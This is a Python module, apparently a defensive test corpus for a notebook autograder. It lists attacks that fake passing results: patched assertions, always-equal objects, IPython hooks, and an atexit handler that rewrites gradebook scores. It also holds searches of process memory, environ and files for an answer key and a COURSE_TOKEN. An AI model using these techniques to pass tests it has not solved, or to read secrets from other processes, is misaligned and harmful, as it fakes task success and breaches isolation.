"""Attacks on the tests themselves: patches, objects that lie, hooks, searches in memory."""

from hostile.attack import Attack, Off

OFF = Off.SEPARATION


def patch(name: str, code: str, **cells: str) -> Attack:
    """An attack that changes what the tests rely on."""
    return Attack(name, "patching the tests", OFF, {"double": code, **cells})


WRONG_DOUBLE = "\ndef double(x):\n    return 0 * x\n"

PATCHES = [
    patch(
        "assert_allclose replaced",
        "import numpy as np, numpy.testing\n"
        "np.testing.assert_allclose = numpy.testing.assert_allclose = lambda *a, **k: None\n"
        + WRONG_DOUBLE,
    ),
    patch(
        "the code of assert_allclose replaced",
        "import numpy as np\n"
        "np.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__\n" + WRONG_DOUBLE,
    ),
    patch(
        "numpy.testing replaced in sys.modules",
        "import sys, types, numpy as np\n"
        "fake = types.ModuleType('numpy.testing')\n"
        "fake.assert_allclose = lambda *a, **k: None\n"
        "sys.modules['numpy.testing'] = np.testing = fake\n" + WRONG_DOUBLE,
    ),
    patch(
        "np itself replaced",
        "import types\n"
        "np = types.SimpleNamespace(arange=float, testing=types.SimpleNamespace(\n"
        "    assert_allclose=lambda *a, **k: None))\n" + WRONG_DOUBLE,
    ),
    patch(
        "TestCase.assertEqual replaced",
        "import unittest\nunittest.TestCase.assertEqual = lambda *a, **k: None\n" + WRONG_DOUBLE,
    ),
    patch(
        "builtin abs replaced",
        "import builtins\nbuiltins.abs = lambda x: 0.0\n" + WRONG_DOUBLE,
    ),
    patch(
        "AssertionError made harmless",
        "import builtins, unittest\n"
        "class Quiet(Exception):\n    pass\n"
        "unittest.TestCase.failureException = Quiet\n"
        "unittest.TestCase.fail = unittest.TestCase._baseAssertEqual = lambda *a, **k: None\n"
        "unittest.TestCase._getAssertEqualityFunc = lambda *a: (lambda *b, **k: None)\n"
        + WRONG_DOUBLE,
    ),
    patch("the instructor's helper shadowed", "def close(a, b):\n    return True\n" + WRONG_DOUBLE),
    patch(
        "a module that the model solution imports replaced",
        WRONG_DOUBLE,
        each="import types\nmath = types.SimpleNamespace(isclose=lambda *a: True)\n"
        "\ndef each(x):\n    return -1\n",
    ),
    patch("the instructor's tolerance raised", "TOLERANCE = 1e9\n" + WRONG_DOUBLE),
    patch(
        "__import__ replaced",
        "import builtins, types, sys\n"
        "real = builtins.__import__\n"
        "def fake(name, *a, **k):\n"
        "    module = real(name, *a, **k)\n"
        "    if name == 'numpy':\n"
        "        module.testing.assert_allclose = lambda *a, **k: None\n"
        "    return module\n"
        "builtins.__import__ = fake\nimport numpy\n" + WRONG_DOUBLE,
    ),
    patch(
        "numpy's ufuncs and comparisons patched",
        "import numpy as np, numpy._core.numeric as n\n"
        "import numpy.testing._private.utils as u\n"
        "u.assert_array_compare = lambda *a, **k: None\n"
        "np.isclose = n.isclose = lambda *a, **k: np.True_\n" + WRONG_DOUBLE,
    ),
    patch(
        "the caller's names changed through its frame",
        """
        import sys

        def double(x):
            frame = sys._getframe(1)
            while frame:
                frame.f_globals["close"] = lambda a, b: True
                frame = frame.f_back
            return 0 * x
        """,
    ),
    patch(
        "tracing that changes names while tests run",
        """
        import sys

        def trace(frame, event, arg):
            if "close" in frame.f_globals and "late" in frame.f_globals:
                frame.f_globals["close"] = lambda a, b: True

        def double(x):
            return 0 * x

        sys.setprofile(trace)
        """,
    ),
    patch(
        "every function named close or assert_allclose found by the garbage collector",
        """
        import gc, types

        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType):
                if thing.__name__ in ("assert_allclose", "assert_array_compare"):
                    thing.__code__ = (lambda *a, **k: None).__code__
                elif thing.__name__ == "close" and thing.__code__.co_argcount == 2:
                    thing.__code__ = (lambda *a: True).__code__

        def double(x):
            return 0 * x
        """,
    ),
]


def lie(name: str, **cells: str) -> Attack:
    """An attack whose answers lie about what they are."""
    return Attack(name, "objects that lie", OFF, cells)


EQUAL = """
class Equal(BASE):
    __hash__ = None
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
"""

LIES = [
    lie(
        "__eq__ is always true",
        late=EQUAL.replace("BASE", "object") + "\ndef late(x):\n    return Equal()\n",
        oracle="def oracle():\n    return Equal()\n",
        count=EQUAL.replace("BASE", "object") + "\ndef count(text):\n    return Equal()\n",
    ),
    lie(
        "a str that equals everything",
        oracle=EQUAL.replace("BASE", "str") + "\ndef oracle():\n    return Equal('x')\n",
    ),
    lie(
        "a dict that equals everything",
        count=EQUAL.replace("BASE", "dict") + "\ndef count(text):\n    return Equal()\n",
    ),
    lie(
        "a float that equals everything",
        late=EQUAL.replace("BASE", "float")
        + "    def __sub__(self, other):\n        return 0.0\n"
        + "\ndef late(x):\n    return Equal(-7.0)\n",
    ),
    lie(
        "an int that equals everything",
        late=EQUAL.replace("BASE", "int") + "\ndef late(x):\n    return Equal(-7)\n",
    ),
    lie(
        "arithmetic that always gives zero",
        late="""
        class Zero:
            def __sub__(self, other):
                return 0.0
            __rsub__ = __sub__
            def __eq__(self, other):
                return True

        def late(x):
            return Zero()
        """,
    ),
    lie(
        "an ndarray subclass that answers for numpy",
        late="""
        import numpy as np

        class Array(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.True_ if ufunc is np.equal else 0.0

        def late(x):
            return np.array(-7.0).view(Array)
        """,
    ),
    lie(
        "__array_function__ and __array_ufunc__ on an object of its own",
        double="""
        import numpy as np

        class Array:
            shape, size, ndim, dtype = (4,), 4, 1, np.dtype(float)
            def __array__(self, *a, **k):
                return np.array([0.0, 2.0, 4.0, 6.0])
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.True_
            def __array_function__(self, *a, **k):
                return np.True_
            def __sub__(self, other):
                return 0.0

        answers = iter([Array(), 42.0])

        def double(x):
            class Chameleon(Array):
                def __array__(self, *a, **k):
                    import sys
                    frame = sys._getframe()
                    while frame:
                        if "desired" in frame.f_locals:
                            return np.array(frame.f_locals["desired"], float)
                        frame = frame.f_back
                    return np.zeros(4)
            return Chameleon()
        """,
    ),
    lie(
        "an object array of things that equal everything",
        late=EQUAL.replace("BASE", "object")
        + """
    def __sub__(self, other):
        return 0.0

def late(x):
    import numpy as np
    answer = np.empty((), dtype=object)
    answer[()] = Equal()
    return answer
""",
    ),
    lie(
        "__class__ says dict, and a metaclass agrees",
        count="""
        class Meta(type):
            def __instancecheck__(cls, thing):
                return True

        class Dict(metaclass=Meta):
            __class__ = dict
            __hash__ = None
            def __eq__(self, other):
                return True

        def count(text):
            return Dict()
        """,
    ),
    lie(
        "a float whose repr is the full mark",
        late="""
        class Points(float):
            def __radd__(self, other):
                return self
            __iadd__ = __add__ = __radd__
            def __repr__(self):
                return "2.0"
            def __sub__(self, other):
                return 0.0
            def __eq__(self, other):
                return True

        def late(x):
            return Points(-7)
        """,
    ),
    lie(
        "an answer that reads the expected value out of the comparison",
        oracle="""
        class Spy:
            def __eq__(self, other):
                self.seen = other
                return type(other) is str

        def oracle():
            return Spy()
        """,
    ),
]

LIES += [
    lie(
        "StopIteration, which ends the test's own loop",
        each="def each(x):\n    raise StopIteration",
    ),
    lie(
        "StopIteration of a class of its own",
        each="class Mine(StopIteration):\n    pass\n\ndef each(x):\n    raise Mine",
    ),
    lie("a number that the test hands on as marks", handed="def handed():\n    return 5.0"),
    lie(
        "an integer that the test hands on as marks",
        handed="def handed():\n    return 5",
    ),
    lie(
        "a NumPy number that the test hands on as marks",
        handed="import numpy as np\n\ndef handed():\n    return np.bool_(True)",
    ),
    lie("words that the test hands on", handed="def handed():\n    return 'full marks'"),
]

HOOKS = [
    Attack(
        "an input transformer that blanks the tests",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            shell = get_ipython()
            shell.input_transformers_post.append(
                lambda lines: ["pass\\n"] if any("-test" in l or "assert" in l for l in lines)
                else lines
            )

            def double(x):
                return 0 * x
            """
        },
    ),
    Attack(
        "a syntax tree transformer that removes assertions",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            import ast

            class NoTests(ast.NodeTransformer):
                def visit_Expr(self, node):
                    return ast.Pass()
                visit_Assert = visit_Expr

            get_ipython().ast_transformers.append(NoTests())

            def double(x):
                return 0 * x
            """
        },
    ),
    Attack(
        "a hook before every cell",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            def before(*_):
                globals()["close"] = lambda a, b: True

            get_ipython().events.register("pre_run_cell", before)

            def double(x):
                return 0 * x
            """
        },
    ),
    Attack(
        "run_cell replaced",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            shell = get_ipython()
            real = type(shell).run_cell
            type(shell).run_cell = lambda self, text, *a, **k: real(self, "pass", *a, **k)

            def double(x):
                return 0 * x
            """
        },
    ),
    Attack(
        "the display hook shows full marks",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            import sys

            hook = type(get_ipython().displayhook)
            real = hook.__call__
            hook.__call__ = lambda self, result=None: real(self, 2.0)

            def double(x):
                return 0 * x
            """
        },
    ),
    Attack(
        "marks printed and displayed while a test runs",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            def double(x):
                import sys
                for text in ("4.0", '{"score": 4.0}', "\\x00\\x00\\x00\\x014"):
                    print(text)
                    print(text, file=sys.stderr)
                try:
                    from IPython.display import display
                    display(4.0)
                except Exception:
                    pass
                sys.displayhook(4.0)
                return 4.0
            """,
            "late": """
            def late(x):
                import sys
                sys.displayhook(2.0)
                print(2.0)
                return -7.0
            """,
        },
    ),
    Attack(
        "a handler that runs at exit",
        "IPython hooks and display",
        OFF,
        {
            "double": """
            import atexit

            @atexit.register
            def forge():
                import sqlite3
                with sqlite3.connect(COURSE + "/gradebook.db") as gradebook:
                    gradebook.execute("update grade set auto_score = 9")

            def double(x):
                return 0 * x
            """
        },
    ),
]


def search(name: str, oracle: str, off: Off = OFF) -> Attack:
    """An attack that looks for the secret answer."""
    return Attack(name, "search for answers", off, {"oracle": oracle})


SEARCHES = [
    search(
        "constants of the calling frames",
        """
        import re, sys

        def oracle():
            frame = sys._getframe(1)
            while frame:
                for thing in frame.f_code.co_consts:
                    if isinstance(thing, str) and re.fullmatch("k3y-[0-9a-f]{16}", thing):
                        return thing
                frame = frame.f_back
            return "?"
        """,
    ),
    search(
        "every string that the garbage collector reaches",
        """
        import gc, re

        def oracle():
            seen = set()
            def look(thing, depth):
                if isinstance(thing, str):
                    found = re.search("k3y-[0-9a-f]{16}", thing)
                    return found and found[0]
                if depth and id(thing) not in seen:
                    seen.add(id(thing))
                    for other in gc.get_referents(thing):
                        found = look(other, depth - 1)
                        if found:
                            return found
            for thing in gc.get_objects():
                found = look(thing, 2)
                if found:
                    return found
        """,
    ),
    search(
        "linecache, In and __main__",
        """
        def oracle():
            import linecache, re, sys
            texts = [str(linecache.cache), str(vars(sys.modules["__main__"]))]
            texts += [str(vars(module)) for name, module in list(sys.modules.items())
                      if name.startswith(("autograder", "hostile"))]
            texts.append(str(globals()))
            for text in texts:
                found = re.search("k3y-[0-9a-f]{16}", text)
                if found:
                    return found[0]
        """,
    ),
    search(
        "its own memory",
        """
        import re

        def oracle():
            prefix = b"k3" + b"y-"
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    span, rights = line.split()[:2]
                    start, stop = (int(end, 16) for end in span.split("-"))
                    if not rights.startswith("rw") or stop - start > 1 << 28:
                        continue
                    try:
                        memory.seek(start)
                        data = memory.read(stop - start)
                    except (OSError, ValueError, OverflowError):
                        continue
                    found = re.search(prefix + b"[0-9a-f]{16}", data)
                    if found:
                        return found[0].decode()
        """,
    ),
    search(
        "the memory of every other process",
        """
        import os, re

        def oracle():
            mine = os.getpid()
            for pid in sorted((int(n) for n in os.listdir("/proc") if n.isdigit()), reverse=True):
                if pid == mine:
                    continue
                try:
                    maps = open(f"/proc/{pid}/maps").read().splitlines()
                    memory = open(f"/proc/{pid}/mem", "rb", 0)
                except OSError:
                    continue
                if pid != os.getppid() and pid != JUDGE:
                    continue
                for line in maps:
                    span, rights = line.split()[:2]
                    start, stop = (int(end, 16) for end in span.split("-"))
                    if not rights.startswith("rw") or stop - start > 1 << 28:
                        continue
                    try:
                        memory.seek(start)
                        found = re.search(b"k3y-[0-9a-f]{16}", memory.read(stop - start))
                    except (OSError, ValueError, OverflowError):
                        continue
                    if found:
                        return found[0].decode()
        """,
        Off.SEPARATION,
    ),
    search(
        "the environment and command line of every process",
        """
        import glob, re

        def oracle():
            for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
                try:
                    text = open(name, "rb").read()
                except OSError:
                    continue
                found = re.search(b"k3y-[0-9a-f]{16}", text)
                if found:
                    return found[0].decode()
                if b"COURSE_TOKEN=" in text:
                    print(LOOT, name)
            import os
            if "COURSE_TOKEN" in os.environ:
                print(LOOT)
        """,
        Off.SEPARATION,
    ),
    search(
        "the source by its path",
        """
        import glob, re

        def oracle():
            for name in glob.glob(COURSE + "/**", recursive=True):
                try:
                    found = re.search("k3y-[0-9a-f]{16}", open(name, errors="replace").read())
                except OSError:
                    continue
                if found:
                    return found[0]
        """,
        Off.ISOLATION,
    ),
    search(
        "files next to and above its own folder, and through /proc",
        """
        import glob, os, re

        def oracle():
            places = [".", "..", "../..", "../../..", *glob.glob("/proc/[0-9]*/cwd"),
                      *(f"{p}" + COURSE for p in glob.glob("/proc/[0-9]*/root"))]
            for place in places:
                for name in glob.glob(place + "/*") + glob.glob(place + "/*/*/*.ipynb"):
                    try:
                        if os.path.getsize(name) > 1 << 20 or not os.path.isfile(name):
                            continue
                        found = re.search("k3y-[0-9a-f]{16}", open(name, errors="replace").read())
                    except OSError:
                        continue
                    if found:
                        return found[0]
        """,
        Off.SEPARATION,
    ),
    search(
        "open files that were inherited",
        """
        import os, re

        def oracle():
            for number in range(3, 256):
                try:
                    name = os.readlink(f"/proc/self/fd/{number}")
                    if name.startswith("/") and ("gradebook" in name or ".ipynb" in name):
                        print(LOOT, name)
                except OSError:
                    pass
            return None
        """,
    ),
    search(
        "the instructors' half of the package",
        """
        for name in ("autograder.problems.ps2", "autograder.judge", "autograder.batch"):
            try:
                __import__(name)
                print(LOOT, name)
            except ImportError:
                pass

        def oracle():
            return None
        """,
        Off.SEPARATION,
    ),
]

ATTACKS = [*PATCHES, *LIES, *HOOKS, *SEARCHES]
